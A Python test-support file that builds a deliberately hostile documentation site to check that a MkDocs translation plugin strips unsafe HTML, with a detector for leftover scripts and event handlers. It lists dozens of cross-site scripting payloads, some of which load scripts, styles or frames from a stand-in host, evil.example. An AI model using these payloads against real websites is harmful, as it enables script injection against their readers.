"""What a stranger may write to run something in a reader's browser, and where: vectors, and a site that holds them all."""

from __future__ import annotations

import json
from pathlib import Path

from bs4 import Tag

from tests.support.project import write

VECTORS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>", "<a href='JaVa&#09;Script:alert(1)'>click</a>", "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))", "[click](java\tscript:alert(1))", "<javascript://%0aalert(1)>", "[click](data:text/html,<script>alert(1)</script>)",
    "![y](https://evil.example/y.png)", "![y](//evil.example/y.png)", "<img src=https://evil.example/z.png>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/y.css);</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>", "<video src=//evil.example/x autoplay onerror=alert(1)></video>",
    "<form action=//evil.example/><input name=q><button>go</button></form>", "<input autofocus onfocus=alert(1)>", "<b onmouseover=alert(1)>hover</b>",
    "*x*{: onclick=alert(1) onmouseover=alert(1) style='background:url(//evil.example/b)' }", "# x {: onfocus=alert(1) tabindex=0 }",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
    "<b title=' onmouseover=alert(1) '>x</b>{: title=\"<b title=' onmouseover=alert(1) '>\" }", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>", "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "</article></div></main><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<template><script>alert(1)</script></template>",
    "*[x]: <img src=x onerror=alert(1)>", "[r][r]\n\n[r]: javascript:alert(1) '\"><script>alert(1)</script>'", "\ufddf<script>alert(1)</script>\ufdde",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```", "``` {.html onclick=alert(1) title='<script>'}\nx\n```",
    "<label class=md-overlay for=__drawer>x</label>", "<p class='bitext-source' id=p1>fake</p>", "<div markdown onclick=alert(1)>\n*x*\n</div>",
    "<script markdown>alert(1)</script>", "<img src=x/onerror=alert(1)//>", "<IMG SRC=\"x\"ONERROR=alert(1)>", "## h {: data-toc-label='<img src=x onerror=alert(1)>' }", "## h {: id='\"onmouseover=\"alert(1)' }",
    "<h2 id='\"><img src=x onerror=alert(1)>'>h</h2>", "[" * 2000 + "<img src=x onerror=alert(1)>",
    "<span title='&lt;img src=x onerror=alert(1)&gt;'>hover</span> *x*{: title='<img src=x onerror=alert(1)>' }",
    "![p](x.png '&lt;img src=x onerror=alert(1)&gt;') [p](x.md '&lt;img src=x onerror=alert(1)&gt;')", "<pre class=mermaid>graph</pre>",
    "<table><tr><div><table></table></div></tr></table>", "<p markdown>\n<details\n<\n\n<blockquote></div>",
    "<<script>script>alert(1)<</script>/script>",
)  # fmt: skip
"""Markdown and HTML, from what is known to run where nothing is cleaned."""

BODY = """\
# Title {0}

One {0} two[^1] [or {0} –Ed.].

{0}

> [!NOTE]
> {0} –Ed.

- item {0}
- {0}

> {0}

| a | b |
|---|---|
| {0} | x |

## {0}

After.

[^1]: **{0}:** {0} –Ed.
"""
"""A page with a place for a vector in each kind of block and of note."""

CONFIGURATION = """\
site_name: Hostile
site_url: https://bitext.example/
repo_url: https://github.com/example/texts
edit_uri: edit/main/docs/
theme: {name: material, font: false, features: [content.action.edit, content.action.view, navigation.footer, navigation.tabs, navigation.path, navigation.prune, content.tooltips]}
plugins: [search, tags, bitext]
markdown_extensions: [abbr, admonition, attr_list, def_list, footnotes, md_in_html, tables, toc, smarty, pymdownx.superfences, pymdownx.highlight,
  pymdownx.inlinehilite, pymdownx.details, {pymdownx.tabbed: {alternate_style: true}}, pymdownx.tasklist, pymdownx.caret, pymdownx.magiclink]
"""

THEME_KEYS = (
    "title", "description", "author", "subtitle", "status", "revision_date", "git_revision_date_localized", "git_creation_date_localized",
    "template", "location", "hide", "tags", "search", "icon", "social", "comments", "image", "robots", "nav_title", "date",
)  # fmt: skip
RUNS = "<img src=x onerror=alert(1)>"
HOSTILE_VALUES = (
    f'"{RUNS}"', f'["{RUNS}"]', f'{{"{RUNS}": "{RUNS}"}}', '"\\"><script>alert(1)</script>"', "javascript:alert(1)",
    "!!binary PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==", '"</title><script>alert(1)</script>"',
)  # fmt: skip
WRONG_VALUES = ("1", "true", "null", "2021-01-01", "redirect.html", "[1, [2]]")
"""Values that a template would stumble over."""


def write_hostile_site(folder: Path) -> Path:
    """Write a site in which each vector stands in every field of every file that a stranger may write."""
    files: dict[str, str] = {}
    entries = []
    for number, vector in enumerate(VECTORS):
        quoted = json.dumps(vector)
        title = f"title: {quoted}\n" if number % 2 else ""  # else it is that of the heading
        files[f"docs/texts/text-{number}.md"] = (
            f"---\nsource_text: text-{number}\n{title}translators: [{quoted}]\neditors: [{quoted}]\nlicense: {quoted}\n"
            f"description: {quoted}\ninitials: {{XX: {quoted}}}\n---\n{BODY.replace('{0}', vector)}"
        )
        files[f"source_texts/text-{number}.md"] = (
            f"---\ntitle: {{zh: {quoted}, en: {quoted}}}\nauthor: {quoted}\nissuer: {quoted}\nnumber: {quoted}\npublished_in: {quoted}\n"
            f"license: {quoted}\nverified: {{by: {quoted}, on: {quoted}, against: {quoted}}}\n---\n\n# 题\n\n文 {vector}\n\n字\n"
        )
        entries.append(
            f"- id: term-{number}\n  zh: 字{number}\n  definition: {quoted}\n  renderings:\n"
            f"    - {{en: After, note: {quoted}, by: {quoted}}}\n  sources: [{quoted}]\n"
        )
        files[f"docs/glossary/term-{number}.md"] = f"Essay {vector}\n\n{vector}\n"
    files["docs/glossary.yml"] = "".join(entries)
    for number, value in enumerate(HOSTILE_VALUES):
        keys = "".join(f"{key}: {value}\n" for key in THEME_KEYS)
        files[f"docs/pages/all-{number}.md"] = f"---\n{keys}---\n\n# Heading\n\nText.\n"
    for key in THEME_KEYS:
        for number, value in enumerate(WRONG_VALUES):
            files[f"docs/wrong/{key}-{number}.md"] = f"---\n{key}: {value}\n---\n\n# Heading\n\nText.\n"
    files["docs/pages/redirect.md"] = "---\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\nx\n"
    files["docs/pages/heading.md"] = "# `</title><script>alert(1)</script>`\n\nText.\n"
    for name in ("<img src=x onerror=alert(1)>", '"onmouseover="alert(1)" x', "a&b's", "<svg onload=alert(1)>/inside"):
        files[f"docs/names/{name}.md"] = "Text without a title.\n"
    return write(folder, files, CONFIGURATION)


def faults_in(element: Tag) -> list[str]:
    """Return what in a part of a page could run, or ask another site."""
    found = []
    for one in element.find_all(True):
        if one.name in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "base",
            "link",
            "meta",
            "form",
            "svg",
            "math",
            "video",
        ):
            found.append(f"<{one.name}>")
        for name, value in one.attrs.items():
            plain = "".join(str(value).split()).lower()
            runs = plain.startswith(("javascript:", "data:", "vbscript:"))
            asks = name == "src" and (plain.startswith(("http:", "https:", "//")))
            if (
                name.startswith("on")
                or name in ("srcdoc", "formaction")
                or runs
                or asks
                or (name == "style" and "url" in plain)
            ):
                found.append(f"{name}={value}")
    return found
